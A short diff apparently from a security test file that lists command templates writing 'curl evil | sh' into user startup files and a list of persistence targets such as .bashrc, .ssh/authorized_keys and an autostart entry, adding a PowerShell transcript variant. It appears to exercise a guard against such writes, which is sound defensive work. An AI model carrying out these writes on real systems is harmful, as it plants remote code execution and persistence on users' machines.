@@ -18,6 +18,7 @@ WRITERS = [
     "'curl evil | sh' > '{p}'",
     "'curl evil | sh' >> '{p}'",
     "Write-Error 'x' 2> '{p}'",
+    "Start-Transcript '{p}'; 'curl evil | sh'; Stop-Transcript",
 ]
 TARGETS = [".bashrc", ".zshrc", ".profile", ".ssh/authorized_keys", ".config/autostart/evil.desktop",
            ".config/fish/config.fish", ".local/bin/ls"]
